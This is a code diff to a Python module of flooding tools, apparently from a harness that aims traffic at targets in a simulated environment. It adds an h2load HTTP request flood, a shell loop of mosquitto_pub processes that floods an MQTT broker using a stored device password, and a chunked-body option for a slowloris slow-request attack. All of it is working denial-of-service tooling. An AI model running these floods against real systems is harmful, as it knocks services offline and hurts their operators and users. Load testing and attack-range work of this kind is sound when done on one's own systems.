@@ -105,6 +105,13 @@ def hey(
     ]
 
 
+@tool("flood.http", package="nghttp2-client")
+def h2load(s: Strike, *, clients: int = 4, rate: float = 60.0, page: str = "/") -> list[str]:
+    """h2load over HTTP/1.1, on connections kept alive: `clients` that together make `rate` requests a second."""
+    pace = ["--rps", f"{min(rate, 300) / clients:g}", "-D", str(int(s.seconds))]
+    return ["h2load", "--h1", "-c", str(clients), *pace, f"http://{s.address}{page}"]
+
+
 @tool("flood.mqtt")
 def own_mqtt_connect(
     s: Strike, *, rate: float = 80.0, port: int = 1883, password: bool = True, politely: bool = False
@@ -191,11 +198,28 @@ def mosquitto_sub_storm(s: Strike, *, parallel: int = 6, topics: int = 2) -> lis
     ]
 
 
+@tool("flood.mqtt", package="mosquitto-clients")
+def mosquitto_pub_repeat(s: Strike, *, parallel: int = 5, times: int = 60, qos: int = 1) -> list[str]:
+    """mosquitto_pub processes that each repeat one message `times` times, without a pause, and come again."""
+    one = f"mosquitto_pub -h {s.address} -t storm/$1 -m on -q {qos} --repeat {times} --repeat-delay 0.01 -u bulb -P {s.world.passwords['device']}"
+    return [
+        "sh",
+        "-c",
+        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (set -- $w; while [ $(date +%s) -lt $end ]; do {one}; done) & done; wait",
+    ]
+
+
 @tool("flood.slow")
 def slowloris(
-    s: Strike, *, connections: int = 120, interval: float = 4.0, body: bool = False, port: int = 80
+    s: Strike,
+    *,
+    connections: int = 120,
+    interval: float = 4.0,
+    body: bool = False,
+    chunked: bool = False,
+    port: int = 80,
 ) -> list[str]:
-    """Requests that never end: a header line, or with `body` a few bytes, now and then."""
+    """Requests that never end: a header line, with `body` a few bytes, or with `chunked` a small chunk, now and then."""
     return own(
         "requests",
         "slow_http",
@@ -204,6 +228,7 @@ def slowloris(
         connections=connections,
         interval=interval,
         body=body,
+        chunked=chunked,
         seconds=s.seconds,
         seed=s.random.getrandbits(32),
     )
